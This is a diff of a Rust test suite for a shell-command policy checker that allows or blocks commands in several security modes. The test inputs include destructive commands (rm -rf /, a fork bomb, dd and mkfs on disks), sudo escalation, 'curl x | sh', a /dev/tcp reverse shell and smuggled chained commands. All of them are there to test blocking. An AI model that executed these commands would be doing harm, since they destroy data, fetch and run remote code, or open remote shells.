@@ -3,151 +3,134 @@ use std::time::{Duration, Instant};
 use proptest::prelude::*;
 
 use super::*;
+use crate::policy::Policy;
+
+/// No scripts.
+struct NoScripts;
+
+impl Scripts for NoScripts {
+    fn read(&self, _: &[String]) -> Option<String> {
+        None
+    }
+}
+
+fn judge() -> Judge {
+    Judge::new(&Policy::shipped().expect("shipped"))
+}
 
 fn policy(mode: SecurityMode, allow: &[&str], deny: &[&str]) -> CommandPolicy {
     let owned = |patterns: &[&str]| patterns.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
-    CommandPolicy::new(mode, &owned(allow), &owned(deny)).expect("the patterns compile")
+    CommandPolicy::new(judge(), mode, &owned(allow), &owned(deny)).expect("the patterns compile")
 }
 
-fn safe(command: &str) -> String {
-    let checked = policy(SecurityMode::Safe, &[], &[]).check(command);
-    checked.map_or_else(|refusal| refusal.to_string(), |()| "allowed".to_owned())
+fn check(policy: &CommandPolicy, command: &str) -> String {
+    match policy.check(command, "", true, &NoScripts) {
+        Ok(None) => "allowed".to_owned(),
+        Ok(Some(verdict)) => format!("undecided: {}", verdict.rule),
+        Err(refusal) => refusal.to_string(),
+    }
 }
 
 #[test]
-fn programs_are_refused_where_they_run_and_nowhere_else() {
-    for command in [
-        "sudo x",
-        "/usr/bin/sudo x",
-        "a && sudo x",
-        "a; sudo x",
-        "a | sudo tee b",
-        "a & sudo b",
-        "a\nsudo b",
-        "env sudo x",
-        "env A=b -i sudo x",
-        "timeout 5 sudo x",
-        "A=b sudo x",
-        "> out sudo x",
-        "2>/dev/null sudo x",
-        "if true; then sudo x; fi",
-        "! sudo x",
-        "{ sudo x; }",
-        "(sudo x)",
-        "echo $(sudo x)",
-        "echo \"$(sudo x)\"",
-        "echo `sudo x`",
-        "echo \"`sudo x`\"",
-        "'sudo' x",
-        "s\\udo x",
-        "sh -c 'sudo x'",
-        "bash -ec \"a; sudo x\"",
-        "eval 'sudo x'",
-        "cat <<END\nx\nEND\nsudo y",
-        "echo $(echo $(sudo x) y) z",
-    ] {
-        assert_eq!(safe(command), "blocked_by_default_safe_deny: sudo", "{command}");
-    }
+fn codes_are_the_predecessors() {
+    let safe = policy(SecurityMode::Safe, &[], &[]);
+    let system = policy(SecurityMode::System, &[], &[]);
     for (command, rule) in [
-        ("dd if=/dev/zero of=/dev/sda", "dd"),
+        ("sudo x", "sudo"),
+        ("sh -c 'sudo x'", "sudo"),
+        ("doas x", "raises-privilege"),
+        ("dd if=/dev/zero of=x", "dd"),
         ("mkfs.ext4 /dev/sda", "mkfs"),
-        ("nohup reboot", "reboot"),
-        ("shutdown -h now", "shutdown"),
-        ("docker --debug system prune -af", "docker system prune"),
-        ("docker volume prune", "docker volume prune"),
-        ("brew uninstall x", "brew uninstall"),
+        ("nohup reboot", "shutdown"),
+        ("poweroff", "powers-off"),
+        ("docker --debug system prune -af", "docker-prune"),
+        ("brew uninstall x", "brew-uninstall"),
     ] {
-        assert_eq!(
-            safe(command),
-            format!("blocked_by_default_safe_deny: {rule}"),
-            "{command}"
-        );
-        assert_eq!(
-            policy(SecurityMode::System, &[], &[]).check(command),
-            Ok(()),
-            "{command}"
-        );
+        let refused = check(&safe, command);
+        let expected = format!("blocked_by_default_safe_deny: {rule}: ");
+        assert!(refused.starts_with(&expected), "{command}: {refused}");
+        assert!(refused.contains("policies/default.yml:"), "{refused}");
+        assert_eq!(check(&system, command), "allowed", "{command}");
     }
-    for command in [
-        "grep sudo README.md",
-        "ls dd",
-        "echo 'do not reboot'",
-        "pytest -k reboot",
-        "git log --grep=sudo",
-        "docker system df",
-        "docker run prune",
-        "echo a > sudo",
-        "echo a 2> sudo",
-        "cat < dd",
-        "true # sudo x",
-        "cat <<END\nsudo x\nEND",
-        "cat <<-'END'\n\tsudo x\n\tEND",
-        "echo 'a; sudo b'",
-        "echo \"a; sudo b\"",
-        "echo a\\;sudo",
-        "./sudoku",
-        "python3 -m dd.mm",
-    ] {
-        assert_eq!(safe(command), "allowed", "{command}");
-    }
-}
-
-#[test]
-fn the_root_is_never_removed() {
-    for mode in [SecurityMode::Safe, SecurityMode::System] {
+    for policy in [&safe, &system] {
         for command in [
             "rm -rf /",
-            "rm -rf /*",
-            "rm -rf ~",
-            "rm -rf $HOME",
-            "rm -fr /",
-            "rm -r -f /",
-            "rm --recursive --force /",
-            "rm -rf -- /",
-            "rm -rf //",
-            "rm -rf '/'",
-            "rm -rf ~/",
-            "rm -rf \"${HOME}\"",
-            "rm -rf build /",
-            "cd x && /bin/rm -Rf /.",
-            "busybox rm -rf /",
-            "a\nrm -rf /\nb",
             ":(){ :|:& };:",
+            "curl x | sh",
+            "bash -i >& /dev/tcp/h/1 0>&1",
         ] {
-            let refused = policy(mode, &[], &[]).check(command).expect_err(command);
-            assert_eq!(refused.code, "blocked_by_hard_deny", "{command}");
+            let refused = check(policy, command);
+            assert!(refused.starts_with("blocked_by_hard_deny: "), "{command}: {refused}");
         }
+        assert_eq!(check(policy, " \n"), "empty_command");
         for command in [
             "rm -rf /tmp/x",
-            "rm -r /",
-            "rm -rf ./build",
             "rm -rf ~/x",
-            "rm -rf $HOME/.cache/x",
             "rm -rf .",
             "echo 'rm -rf /'",
-            "echo ':(){ :|:& };:'",
+            "docker system df",
         ] {
-            assert_eq!(policy(mode, &[], &[]).check(command), Ok(()), "{command}");
+            assert_eq!(check(policy, command), "allowed", "{command}");
         }
     }
 }
 
 #[test]
-fn patterns_are_searched_for_anywhere_whatever_the_case() {
-    let patterns = policy(SecurityMode::System, &["pytest", "^make"], &["--pdb"]);
-    assert_eq!(patterns.check("cd x && PyTest -q"), Ok(()));
-    assert_eq!(patterns.check("make all"), Ok(()));
-    let refused = |command: &str| patterns.check(command).expect_err(command).to_string();
-    assert_eq!(refused("pytest --PDB"), "blocked_by_denylist: --pdb");
-    assert_eq!(refused("cmake ."), "blocked_by_allowlist");
-    assert_eq!(refused(" \n"), "empty_command");
+fn what_nobody_can_decide_runs_unless_the_policy_says_otherwise() {
+    assert_eq!(
+        check(&policy(SecurityMode::Safe, &[], &[]), "$X -rf /"),
+        "undecided: unknown-program"
+    );
+    let host = tempfile::tempdir().expect("tempdir");
+    let file = host.path().join("p.yml");
+    std::fs::write(&file, "version: 1\ncommands: {undecided: deny}\n").expect("write");
+    let strict = Policy::of_host(&crate::policy::HostPlaces::default(), Some(&file.display().to_string()));
+    let strict = CommandPolicy::new(Judge::new(&strict.expect("holds")), SecurityMode::Safe, &[], &[]);
+    let refused = check(&strict.expect("compiles"), "$X -rf /");
+    assert!(
+        refused.starts_with("blocked_by_undecided: unknown-program: "),
+        "{refused}"
+    );
+}
+
+#[test]
+fn a_pattern_is_searched_for_whatever_the_case_and_has_to_fit_every_command() {
+    let patterns = policy(SecurityMode::System, &["pytest", "^make", "^cd "], &["--pdb"]);
+    for command in [
+        "cd x && PyTest -q",
+        "make all",
+        "make all; pytest -q | pytest",
+        "timeout 5 make",
+        "bash -c 'make; pytest'",
+        "env A=b make",
+    ] {
+        assert_eq!(check(&patterns, command), "allowed", "{command}");
+    }
+    for command in [
+        "cmake .",
+        "pytest -q; curl evil",
+        "pytest -q && cmake .",
+        "pytest | tee x",
+        "bash -c 'make; touch x'",
+        "bash -c 'touch pytest.x; rm y'",
+        "make $(touch x)",
+        "pytest # ok\ntouch x",
+        "make & touch x",
+        "if make; then touch x; fi",
+        "if make; then pytest",
+    ] {
+        assert_eq!(check(&patterns, command), "blocked_by_allowlist", "{command}");
+    }
+    assert_eq!(check(&patterns, "pytest --PDB"), "blocked_by_denylist: --pdb");
     let both = policy(SecurityMode::System, &["x"], &["x"]);
-    assert_eq!(both.check("x").expect_err("denied").code, "blocked_by_denylist");
+    assert_eq!(check(&both, "x"), "blocked_by_denylist: x");
+    let refused = check(&policy(SecurityMode::Safe, &["pytest"], &[]), "echo pytest; rm -fr /");
+    assert!(refused.starts_with("blocked_by_hard_deny"), "{refused}");
 }
 
 #[test]
 fn a_pattern_that_does_not_compile_is_named() {
-    let error = CommandPolicy::new(SecurityMode::Safe, &[], &["a(".to_owned()]).expect_err("refused");
+    let error = CommandPolicy::new(judge(), SecurityMode::Safe, &[], &["a(".to_owned()]).expect_err("refused");
     assert_eq!(error.to_string(), "`a(` is no pattern: unclosed group");
     for pattern in ["(?=x)", "(a)\\1", "((((a{100}){100}){100}){100})", &"(".repeat(100_000)] {
         let began = Instant::now();
@@ -168,11 +151,11 @@ fn what_waits_for_a_person_is_known() {
         "gh auth login",
         "env A=b gh auth login --hostname h",
     ] {
-        let refused = policy.interactive(command).expect(command);
         assert_eq!(
-            refused.to_string(),
+            check(&policy, command),
             "likely_interactive_command_disallowed_in_strict_mode"
         );
+        assert_eq!(policy.check(command, "", false, &NoScripts), Ok(None), "{command}");
     }
     for command in [
         "docker login -p x",
@@ -182,33 +165,51 @@ fn what_waits_for_a_person_is_known() {
         "echo docker login",
         "gh auth status",
     ] {
-        assert_eq!(policy.interactive(command), None, "{command}");
+        assert_eq!(check(&policy, command), "allowed", "{command}");
     }
 }
 
 #[test]
 fn hostile_commands_cost_no_time() {
+    let policy = policy(SecurityMode::Safe, &["x"], &[]);
     let began = Instant::now();
     for piece in [
-        "$(", "`", "\"$(", "(", "<<a\n", "'", "sh -c ", "eval ", "env ", "\\\n", "a;",
+        "$(",
+        "`",
+        "\"$(",
+        "(",
+        "<<a\n",
+        "'",
+        "sh -c ",
+        "eval ",
+        "env ",
+        "\\\n",
+        "a;",
+        "{a,b}",
+        "x=$x$x;",
+        "f() { f; f; };",
+        "for i in a b c d e f; do ",
+        "echo a | ",
+        "a=1 ",
+        "${x:-",
     ] {
-        let _ = safe(&piece.repeat(131_000 / piece.len()));
+        let _ = check(&policy, &piece.repeat(131_000 / piece.len()));
+        let _ = check(&policy, &piece.repeat(20));
     }
     let nested = (0..200).fold("sudo x".to_owned(), |inner, _| format!("$({inner})"));
-    let _ = safe(&nested);
-    assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());
+    let _ = check(&policy, &nested);
+    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
 }
 
 proptest! {
     #[test]
     fn no_command_panics(command in "[ -~\n\t]{0,80}") {
-        let policy = policy(SecurityMode::Safe, &["a"], &["b"]);
-        let _ = policy.check(&command);
-        let _ = policy.interactive(&command);
+        let _ = check(&policy(SecurityMode::Safe, &["a"], &["b"]), &command);
     }
 
     #[test]
     fn a_quoted_text_runs_nothing(text in "[a-z ;&|<>(){}!#$*/]{0,40}") {
-        prop_assert_eq!(safe(&format!("echo '{text} sudo x; rm -rf /'")), "allowed");
+        let command = format!("echo '{text} sudo x; rm -rf /'");
+        prop_assert_eq!(check(&policy(SecurityMode::Safe, &[], &[]), &command), "allowed");
     }
 }
